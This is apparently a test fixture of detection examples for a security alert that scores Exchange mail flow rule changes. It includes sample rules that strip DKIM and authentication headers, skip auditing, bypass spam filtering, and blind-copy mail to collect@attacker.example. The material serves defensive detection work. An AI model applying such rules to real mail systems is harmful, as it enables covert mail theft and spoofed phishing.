import { exchangeEvent, HELPER_APP_ACTOR, knownHelperApp, MICROSOFT_ACTOR } from './lib/event-samples.js';
import type { DetectionExample } from './model/detection-example.js';

const ALL_AT_ONCE = 'Import-TransportRuleCollection';

const strip = (header: string, more: Readonly<Record<string, string>> = {}) => ({
  Name: 'Header clean-up 01',
  RemoveHeader: header,
  Enabled: 'True',
  ...more,
});

/** Examples of `transport-rule-changed`. */
export const examples: readonly DetectionExample[] = [
  {
    name: 'a rule that strips, picks mail by words and leaves no trace',
    event: exchangeEvent(
      'New-TransportRule',
      'tidy',
      strip('DKIM-Signature', { Name: 'tidy', SubjectContainsWords: 'invoice', SetAuditSeverity: 'DoNotAudit' }),
    ),
    expect: {
      severity: 'critical',
      title:
        'The mail flow rule tidy was made by megan@contoso.com: it removes the header DKIM-Signature, and is not audited and picks mail about invoice',
    },
  },
  {
    name: 'a rule that does nothing odd, to mail about payments',
    event: exchangeEvent('New-TransportRule', 'tag', {
      Name: 'tag',
      SubjectOrBodyContainsWords: 'payment',
      PrependSubject: '!',
    }),
    expect: {
      severity: 'low',
      title: 'The mail flow rule tag was made by megan@contoso.com: it picks mail about payment',
    },
  },
  {
    name: 'an app strips what tells the true sender',
    event: exchangeEvent(
      'New-TransportRule',
      'Header clean-up 01',
      strip('X-MS-Exchange-ExternalOriginalInternetSender'),
      {
        actor: HELPER_APP_ACTOR,
      },
    ),
    known: { apps: [knownHelperApp()] },
    expect: {
      severity: 'critical',
      confidence: 'high',
      subjectId: 'Header clean-up 01',
      title:
        'The mail flow rule Header clean-up 01 was made by the app Office Sync Helper: it removes the header X-MS-Exchange-ExternalOriginalInternetSender',
    },
  },
  {
    name: 'a person strips the results of authentication',
    event: exchangeEvent('New-TransportRule', 'r', strip('Authentication-Results')),
    expect: { severity: 'critical', confidence: 'high' },
  },
  {
    name: 'an existing rule is made to strip',
    event: exchangeEvent('Set-TransportRule', 'Disclaimer', {
      Identity: 'Disclaimer',
      RemoveHeader: 'DKIM-Signature',
    }),
    expect: { severity: 'critical', confidence: 'high' },
  },
  {
    name: 'the results of authentication are overwritten instead',
    event: exchangeEvent('New-TransportRule', 'r', {
      SetHeaderName: 'Authentication-Results',
      SetHeaderValue: 'dkim=pass',
    }),
    expect: { severity: 'high', confidence: 'high' },
  },
  {
    name: 'mail is sent out by a connector',
    event: exchangeEvent('New-TransportRule', 'r', { RouteMessageOutboundConnector: 'Archive' }),
    expect: { severity: 'medium' },
  },
  {
    name: 'blind copies to a contact, which may be anybody',
    event: exchangeEvent('New-TransportRule', 'r', { BlindCopyTo: 'Archive contact' }),
    expect: { severity: 'medium', confidence: 'low' },
  },
  {
    name: 'a header of the company’s own is set',
    event: exchangeEvent('New-TransportRule', 'r', { SetHeaderName: 'X-Contoso-Class', SetHeaderValue: 'internal' }),
    expect: { severity: 'low' },
  },
  {
    name: 'a rule that strips, to be tried out first',
    event: exchangeEvent('New-TransportRule', 'r', strip('Received', { Mode: 'Audit' })),
    expect: { severity: 'high' },
  },
  {
    name: 'a header of the company’s own',
    event: exchangeEvent('New-TransportRule', 'r', strip('X-Contoso-Classification')),
    expect: { severity: 'high', confidence: 'medium' },
  },
  {
    name: 'a gateway’s own header',
    event: exchangeEvent('New-TransportRule', 'r', strip('X-Proofpoint-Spam-Details')),
    expect: { severity: 'low' },
  },
  {
    name: 'past the spam filter for whoever names a domain as the sender',
    event: exchangeEvent('New-TransportRule', 'Partners', { SenderDomainIs: 'partner.example', SetSCL: '-1' }),
    expect: { severity: 'high', confidence: 'high' },
  },
  {
    name: 'a phishing simulation, by its addresses',
    event: exchangeEvent('New-TransportRule', 'Simulation', { SenderIpRanges: '198.51.100.7', SetSCL: '-1' }),
    expect: { severity: 'low' },
  },
  {
    name: 'blind copies to the outside',
    event: exchangeEvent('Set-TransportRule', 'Copy', { Identity: 'Copy', BlindCopyTo: 'collect@attacker.example' }),
    expect: { severity: 'high', confidence: 'medium' },
  },
  {
    name: 'journaling to a mailbox of the own domain',
    event: exchangeEvent('New-TransportRule', 'Journal', { BlindCopyTo: 'journal@contoso.com' }),
    expect: { severity: 'low' },
  },
  {
    name: 'a disclaimer',
    event: exchangeEvent('New-TransportRule', 'Disclaimer', { ApplyHtmlDisclaimerText: '<p>Contoso Ltd</p>' }),
    expect: { severity: 'low' },
  },
  {
    name: 'a disclaimer made by an app',
    event: exchangeEvent(
      'New-TransportRule',
      'Disclaimer',
      { ApplyHtmlDisclaimerText: 'x' },
      { actor: HELPER_APP_ACTOR },
    ),
    expect: { severity: 'critical' },
  },
  {
    name: 'switched on',
    event: exchangeEvent('Enable-TransportRule', 'r', { Identity: 'r' }),
    expect: { severity: 'medium' },
  },
  {
    name: 'switched off',
    event: exchangeEvent('Disable-TransportRule', 'Warn of external mail', { Identity: 'Warn of external mail' }),
    expect: { severity: 'low' },
  },
  {
    name: 'removed',
    event: exchangeEvent('Remove-TransportRule', 'Warn of external mail', { Identity: 'Warn of external mail' }),
    expect: { severity: 'medium' },
  },
  {
    name: 'Exchange’s own encryption rule',
    event: exchangeEvent(
      'New-TransportRule',
      'Encrypt',
      { ApplyRightsProtectionTemplate: 'Encrypt' },
      { actor: MICROSOFT_ACTOR },
    ),
    expect: 'silent',
  },
  {
    name: 'all rules replaced by those of a file',
    event: exchangeEvent(ALL_AT_ONCE, '', { FileData: '<Binary>', Force: 'True' }),
    expect: {
      severity: 'high',
      confidence: 'medium',
      title: 'All mail flow rules were replaced at once by megan@contoso.com',
    },
  },
  {
    name: 'the same by an app',
    event: exchangeEvent(ALL_AT_ONCE, '', { FileData: '<Binary>' }, { actor: HELPER_APP_ACTOR }),
    known: { apps: [knownHelperApp()] },
    expect: { severity: 'critical', confidence: 'high' },
  },
  {
    name: 'refused',
    event: exchangeEvent('New-TransportRule', 'r', strip('Received'), { succeeded: false }),
    expect: 'silent',
  },
];
